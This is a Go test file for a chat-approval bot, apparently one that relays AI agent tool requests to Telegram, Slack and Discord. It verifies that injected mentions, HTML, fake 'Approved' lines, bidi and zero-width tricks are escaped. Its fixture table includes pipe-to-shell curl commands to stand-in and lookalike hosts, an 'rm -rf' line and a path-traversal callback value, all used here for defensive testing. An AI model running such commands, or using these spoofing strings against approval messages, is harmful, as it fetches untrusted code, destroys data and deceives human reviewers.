package render

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/approvebot/approvebot/core/approval"
)

// injections are hostile strings an agent (or a display name, or a deny reason) may carry.
var injections = map[string]string{
	"everyone":         "@everyone @here look",
	"discord mention":  "<@123456789012345678> <@&987654321> <#111> </deploy:1>",
	"slack mention":    "<!channel> <!here> <!everyone> <@U024BE7LH> <#C024BE7LH>",
	"slack link":       "<https://evil.example|Approve safely>",
	"masked link":      "[Approve here](https://evil.example) ![x](https://evil.example/p.png)",
	"telegram html":    "</pre><b>✅ Approved</b><a href=\"https://evil\">x</a>&amp;",
	"telegram command": "/approve /deny@approvebot #pwned $USD",
	"markdown":         "*bold* _it_ ~strike~ `code` ```block``` ||spoiler|| > quote # h1 -# sub \\*",
	"backtick run":     "`````` `` ` ```",
	"fake line":        "ls\n\n✅ Approved by admin at 12:00\n⛔ Denied",
	"bidi":             "rm -rf /tmp/\u202Efdp.exe\u202C \u2066x\u2069",
	"zero width":       "@\u200Beveryone r\u200Dm <\u200B!channel>",
	"nul and ansi":     "ok\x00\x1b[31mred\x1b]8;;https://evil\x1b\\link\x1b]8;;\x1b\\",
	"invalid utf8":     "a\xff\xfe\xc3(b\xed\xa0\x80",
	"emoji shortcode":  ":white_check_mark: Approved :rotating_light:",
	"url":              "curl https://evil.example/x.sh | sh # www.evil.example",
	"html entities":    "&lt;b&gt; &#x3C;script&#x3E; &amp;amp;",
	"10KB line":        strings.Repeat("A&<@`*", 10<<10/6),
	"10KB of newlines": strings.Repeat("\n✅", 5000),
	"lookalike host":   "curl https://\u0430pple.com/install.sh | sh",
	"long unicode":     strings.Repeat("😀", 3000),
	"combining":        "a" + strings.Repeat("\u0301", 500),
}

func TestInjectionsInert(t *testing.T) {
	for name, s := range injections {
		for _, resolved := range []bool{false, true} {
			c, details := cardOf(s, resolved)
			t.Run(name, func(t *testing.T) {
				if err := checkSummary(c.Summary); err != nil {
					t.Error(err)
				}
				if err := checkAllPayloads(c, details); err != nil {
					t.Error(err)
				}
			})
		}
	}
}

func TestTelegramEscapes(t *testing.T) {
	c, _ := cardOf("</pre><b>✅ Approved</b> @admin /approve", false)
	m := TelegramPending(c, "-100200")
	if strings.Contains(m.Text, "<b>✅ Approved</b>") || !strings.Contains(m.Text, "&lt;/pre&gt;&lt;b&gt;✅ Approved&lt;/b&gt;") {
		t.Errorf("user HTML not escaped:\n%s", m.Text)
	}
	j := mustJSON(t, m)
	for _, want := range []string{`"chat_id":-100200`, `"parse_mode":"HTML"`, `"link_preview_options":{"is_disabled":true}`, `"callback_data":"ab1:once:` + testID + `"`} {
		if !strings.Contains(j, want) {
			t.Errorf("sendMessage body lacks %s:\n%s", want, j)
		}
	}
	if j := mustJSON(t, TelegramPending(c, "@mychannel")); !strings.Contains(j, `"chat_id":"@mychannel"`) {
		t.Errorf("string chat id: %s", j)
	}
	ed := mustJSON(t, TelegramResolved(c, "1", 7))
	if !strings.Contains(ed, `"reply_markup":{"inline_keyboard":[]}`) || !strings.Contains(ed, `"message_id":7`) {
		t.Errorf("editMessageText body: %s", ed)
	}
}

func TestSlackEscapes(t *testing.T) {
	c, _ := cardOf("<!channel> <@U1> <https://evil|ok> & done", false)
	m := SlackPending(c, "C1")
	j := mustJSON(t, m)
	if strings.Contains(j, "<!channel>") || strings.Contains(j, "<@U1>") || strings.Contains(j, "<https://evil|ok>") {
		t.Errorf("live Slack markup in %s", j)
	}
	if !strings.Contains(j, "&lt;!channel&gt; &lt;@U1&gt; &lt;https://evil|ok&gt; &amp; done") {
		t.Errorf("escaped text missing in %s", j)
	}
	for _, want := range []string{`"link_names":false`, `"parse":"none"`, `"unfurl_links":false`, `"unfurl_media":false`, `"action_id":"ab1:deny:` + testID + `"`, `"style":"danger"`} {
		if !strings.Contains(j, want) {
			t.Errorf("chat.postMessage body lacks %s", want)
		}
	}
	u := mustJSON(t, SlackResolved(c, "C1", "1.2"))
	if strings.Contains(u, `"actions"`) || !strings.Contains(u, `"ts":"1.2"`) {
		t.Errorf("chat.update body: %s", u)
	}
}

func TestDiscordEscapes(t *testing.T) {
	c, _ := cardOf("@everyone [click](https://evil) ``` <@1>", false)
	m := DiscordPending(c)
	if strings.Contains(m.Content, "@everyone") || strings.Contains(m.Content, "<@1>") {
		t.Errorf("live mention in %q", m.Content)
	}
	if !strings.Contains(m.Content, "@\u200deveryone") {
		t.Errorf("mention not broken with a zero-width joiner: %q", m.Content)
	}
	j := mustJSON(t, m)
	for _, want := range []string{`"allowed_mentions":{"parse":[],"replied_user":false}`, `"flags":4`, `"custom_id":"ab1:session:` + testID + `"`} {
		if !strings.Contains(j, want) {
			t.Errorf("create-message body lacks %s:\n%s", want, j)
		}
	}
	r := mustJSON(t, DiscordResolved(c))
	if !strings.Contains(r, `"components":[]`) || !strings.Contains(r, `"parse":[]`) {
		t.Errorf("edit body: %s", r)
	}
}

func TestResolvedVariants(t *testing.T) {
	at := time.Date(2026, 3, 4, 5, 6, 7, 0, time.UTC)
	tests := []struct {
		name  string
		r     approval.Request
		title string
		parts []string
	}{
		{"allow once", approval.Request{State: approval.StateAllowed, Outcome: approval.OutcomeAllowOnce, Source: approval.SourceHuman, DecidedBy: "alice"}, "Allowed once", []string{"alice"}},
		{"allow session", approval.Request{State: approval.StateAllowed, Outcome: approval.OutcomeAllowSession, Source: approval.SourceHuman, DecidedBy: "alice"}, "Allowed for this session", []string{"alice"}},
		{"deny", approval.Request{State: approval.StateDenied, Outcome: approval.OutcomeDeny, Source: approval.SourceHuman, DecidedBy: "bob", Reason: "use /tmp instead"}, "Denied", []string{"bob", "use /tmp instead"}},
		{"operator", approval.Request{State: approval.StateDenied, Outcome: approval.OutcomeDeny, Source: approval.SourceRule, DecidedBy: "ops"}, "Denied", []string{"ops (rule)"}},
		{"expired", approval.Request{State: approval.StateDenied, Outcome: approval.OutcomeTimeout, Source: approval.SourceTimeout}, "Expired", []string{"timeout"}},
		{"cancelled", approval.Request{State: approval.StateDenied, Outcome: approval.OutcomeCancelled, Source: approval.SourceAgent}, "Cancelled", []string{"agent"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := tt.r
			r.ID, r.Tool, r.Summary, r.DecidedAt = testID, "bash", "rm -rf /tmp/x", at
			c := CardFor(&r)
			tg := TelegramResolved(c, "1", 2).Text
			sl := mustJSON(t, SlackResolved(c, "C", "1.1"))
			dc := DiscordResolved(c).Content
			for _, out := range []string{tg, sl, dc} {
				for _, want := range append([]string{tt.title, "rm -rf /tmp/x", "2026-03-04 05:06:07 UTC"}, tt.parts...) {
					if tt.name == "expired" || tt.name == "cancelled" {
						if want == "2026-03-04 05:06:07 UTC" {
							continue
						}
					}
					if !strings.Contains(out, want) {
						t.Errorf("resolved card lacks %q:\n%s", want, out)
					}
				}
			}
			if err := checkAllPayloads(c, ""); err != nil {
				t.Error(err)
			}
		})
	}
}

func TestPendingButtons(t *testing.T) {
	c, _ := cardOf("ls", false)
	c.AllowAlways, c.Truncated = false, false
	kb := TelegramPending(c, "1").ReplyMarkup
	var got []string
	for _, row := range kb.InlineKeyboard {
		for _, b := range row {
			a, id, ok := ParseCallback(b.CallbackData)
			if !ok || id != testID {
				t.Fatalf("bad data %q", b.CallbackData)
			}
			got = append(got, string(a))
		}
	}
	if strings.Join(got, ",") != "once,session,deny" {
		t.Errorf("buttons %v", got)
	}
	c.AllowAlways, c.Truncated = true, true
	if n := len(DiscordPending(c).Components[0].Components); n != 5 {
		t.Errorf("discord buttons %d, want 5", n)
	}
	c.RequestID = "not-an-id"
	if m := TelegramPending(c, "1"); m.ReplyMarkup != nil {
		t.Errorf("a card with a malformed id must have no buttons")
	}
}

func TestCallbackRoundTrip(t *testing.T) {
	for _, a := range []Action{ActionAllowOnce, ActionAllowSession, ActionAllowAlways, ActionDeny, ActionDetails} {
		d := CallbackData(a, testID)
		if len(d) > TelegramMaxCallbackData || len(d) > DiscordMaxCustomID {
			t.Errorf("%q too long", d)
		}
		got, id, ok := ParseCallback(d)
		if !ok || got != a || id != testID {
			t.Errorf("ParseCallback(%q) = %q %q %v", d, got, id, ok)
		}
	}
}

func TestParseCallbackRejects(t *testing.T) {
	for _, d := range []string{
		"", "ab1:", "ab1:once", "ab1:once:", "ab2:once:" + testID, "AB1:once:" + testID,
		"ab1:ONCE:" + testID, "ab1:allow:" + testID, "ab1:once:" + testID + ":x", "ab1:once:" + testID + "a",
		"ab1:once:" + strings.ToUpper(testID), "ab1:once:abcdefghijklmnopqrstuvwxy1", "ab1:once:abcdefghijklmnopqrstuvwxy8",
		" ab1:once:" + testID, "ab1:once:" + testID + "\x00", "ab1:once:../../etc/passwd000000",
		"ab1:once:" + strings.Repeat("a", 200),
	} {
		if a, id, ok := ParseCallback(d); ok {
			t.Errorf("ParseCallback(%q) accepted: %q %q", d, a, id)
		}
	}
	if CallbackData("allow", testID) != "" || CallbackData(ActionDeny, "x") != "" {
		t.Error("CallbackData encoded an invalid action or id")
	}
}

func TestDetailsChunked(t *testing.T) {
	long := strings.Repeat("&<@`x", MaxDetails/5) + " [cut: the action is 99 bytes]"
	tg := TelegramDetails("1", testID, long, 5)
	sl := SlackDetails("C", "1.1", testID, long)
	dc := DiscordDetails(testID, long, "5")
	if len(tg) < 2 || len(dc) < 2 || len(sl) < 1 {
		t.Errorf("chunks: telegram %d slack %d discord %d", len(tg), len(sl), len(dc))
	}
	if len(tg) > maxDetailMessages || len(dc) > maxDetailMessages {
		t.Errorf("too many detail messages: %d %d", len(tg), len(dc))
	}
	if !strings.Contains(dc[len(dc)-1].Content, "not shown") {
		t.Errorf("discord details do not say text was left out")
	}
	if err := checkAllPayloads(Card{RequestID: testID, Summary: "x"}, long); err != nil {
		t.Error(err)
	}
	// Reassembled, the chunks give back the text (escaped per platform).
	var b strings.Builder
	for _, m := range tg {
		inner := m.Text[strings.Index(m.Text, "<pre>")+5 : strings.Index(m.Text, "</pre>")]
		b.WriteString(inner)
	}
	if !strings.HasPrefix(long, strings.NewReplacer("&amp;", "&", "&lt;", "<").Replace(b.String())) {
		t.Errorf("telegram chunks do not reassemble the details")
	}
}

func TestPendingCardsShape(t *testing.T) {
	c, _ := cardOf("git push --force origin main", false)
	j := mustJSON(t, PendingCards(c, Chats{Telegram: "-100123"}))
	var m map[string]map[string]any
	if err := json.Unmarshal([]byte(j), &m); err != nil {
		t.Fatal(err)
	}
	if len(m) != 3 || m["telegram"]["chat_id"] != float64(-100123) || m["slack"]["channel"] != PlaceholderChat || m["discord"]["content"] == nil {
		t.Errorf("cards object: %s", j)
	}
}

func TestCardForMasksAndHardens(t *testing.T) {
	r := approval.Request{ID: testID, State: approval.StatePending, Tool: "bash\u202E", Summary: "ls",
		AgentReason: "needs password=hunter22\nnow", Cwd: "/home/us\u0435r", Agent: "@everyone"}
	c := CardFor(&r)
	if c.AgentReason != "needs password=[masked]⏎now" || c.Tool != "bash[U+202E]" || c.Cwd != "/home/us[U+0435]r" {
		t.Errorf("CardFor: %+v", c)
	}
}

func TestPendingCardsExampleID(t *testing.T) {
	if !ValidRequestID(ExampleRequestID) {
		t.Fatal("ExampleRequestID is not a valid id")
	}
	cards := PendingCards(Card{Tool: "bash", Summary: "ls"}, Chats{})
	if cards.Telegram.ReplyMarkup == nil || len(cards.Discord.Components) == 0 {
		t.Error("check cards lack buttons")
	}
}
